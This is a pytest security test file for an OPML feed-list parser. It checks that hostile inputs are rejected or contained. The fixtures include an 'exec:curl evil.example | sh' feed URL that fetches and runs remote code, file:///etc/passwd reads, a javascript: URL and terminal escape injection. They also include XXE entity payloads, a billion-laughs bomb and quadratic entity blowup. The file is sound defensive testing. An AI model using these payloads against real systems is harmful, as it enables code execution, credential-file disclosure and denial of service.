"""Reliability row 15 (and 7 for OPML): hostile schemes, garbage, entity attacks."""

from __future__ import annotations

import time
import tracemalloc

import pytest

from tui_reader.errors import FeedParseError
from tui_reader.fetch.opml import parse_opml


def test_non_http_entries_are_skipped_with_a_warning_naming_them() -> None:
    data = b"""<?xml version="1.0"?>
<opml version="2.0"><head/><body>
  <outline text="Good" xmlUrl="https://good.example/rss"/>
  <outline text="Runner" xmlUrl="exec:curl evil.example | sh"/>
  <outline text="Filter" xmlUrl="filter:~/bin/f.sh:http://x.example/rss"/>
  <outline text="Local" xmlUrl="file:///etc/passwd"/>
  <outline text="Script" xmlUrl="javascript:alert(1)"/>
  <outline text="Data" xmlUrl="data:text/xml,&lt;rss/&gt;"/>
  <outline text="Relative" xmlUrl="/feed.xml"/>
  <outline text="Hostless" xmlUrl="http:///nohost"/>
</body></opml>"""
    result = parse_opml(data)
    assert [e.url for e in result.entries] == ["https://good.example/rss"]
    assert result.warnings == [
        "skipped Runner: exec:curl evil.example | sh is not an http(s) feed URL",
        "skipped Filter: filter:~/bin/f.sh:http://x.example/rss is not an http(s) feed URL",
        "skipped Local: file:///etc/passwd is not an http(s) feed URL",
        "skipped Script: javascript:alert(1) is not an http(s) feed URL",
        "skipped Data: data:text/xml,<rss/> is not an http(s) feed URL",
        "skipped Relative: /feed.xml is not an http(s) feed URL",
        "skipped Hostless: http:///nohost is not an http(s) feed URL",
    ]


def test_warnings_hold_no_control_characters() -> None:
    data = b'<opml><body><outline text="\x1b]0;pwned\x07" xmlUrl="exec:\x1b[2J"/></body></opml>'
    result = parse_opml(data)
    assert result.entries == []
    assert len(result.warnings) == 1
    assert "\x1b" not in result.warnings[0] and "\x07" not in result.warnings[0]


@pytest.mark.parametrize(
    "data",
    [
        b"\x00\x01\x02\xff\xfe garbage <<<>>>",
        b"\xff\xd8\xff\xe0" + bytes(range(256)) * 40,  # a JPEG-ish blob
        b"<opml",
        b"<?xml version='1.0'?><!DOCTYPE opml [<!ENTITY a 'unterminated",
        b'{"opml": "json"}',
    ],
)
def test_garbage_is_one_line_error(data: bytes) -> None:
    with pytest.raises(FeedParseError) as caught:
        parse_opml(data)
    assert str(caught.value).startswith("not OPML")
    assert "\n" not in str(caught.value)


def _bounded(data: bytes) -> tuple[float, int]:
    tracemalloc.start()
    try:
        start = time.monotonic()
        try:
            result = parse_opml(data)
        except FeedParseError:
            result = None
        elapsed = time.monotonic() - start
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    if result is not None:
        for entry in result.entries:
            assert "root:" not in entry.title and len(entry.title) < 1000
    return elapsed, peak


def test_billion_laughs_is_not_expanded() -> None:
    decls = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "lol"}">\n' for i in range(10))
    data = (
        f'<?xml version="1.0"?>\n<!DOCTYPE opml [\n{decls}]>\n'
        '<opml version="2.0"><head><title>&l9;</title></head><body>'
        '<outline text="&l9;" xmlUrl="http://a.example/rss"/></body></opml>'
    ).encode()
    elapsed, peak = _bounded(data)
    assert elapsed < 10 and peak < 64 << 20


def test_external_entities_and_dtd_are_not_read() -> None:
    data = b"""<?xml version="1.0"?>
<!DOCTYPE opml SYSTEM "http://127.0.0.1:9/evil.dtd" [
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY % remote SYSTEM "http://127.0.0.1:9/x.dtd"> %remote;
]>
<opml version="2.0"><body><outline text="&xxe;" xmlUrl="http://a.example/rss"/></body></opml>"""
    result = parse_opml(data)
    assert [e.url for e in result.entries] == ["http://a.example/rss"]
    assert "root" not in result.entries[0].title


def test_quadratic_blowup_is_not_expanded() -> None:
    big = "A" * 100_000
    data = (
        f'<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY a "{big}">]>'
        '<opml version="2.0"><body><outline text="' + "&a;" * 50_000 + '" '
        'xmlUrl="http://a.example/rss"/></body></opml>'
    ).encode()
    elapsed, peak = _bounded(data)
    assert elapsed < 10 and peak < 256 << 20


def test_deep_nesting_does_not_recurse() -> None:
    depth = 5000
    data = (
        "<opml><body>"
        + '<outline text="f">' * depth
        + '<outline text="x" xmlUrl="http://a.example/rss"/>'
        + "</outline>" * depth
        + "</body></opml>"
    ).encode()
    elapsed, _ = _bounded(data)
    assert elapsed < 10
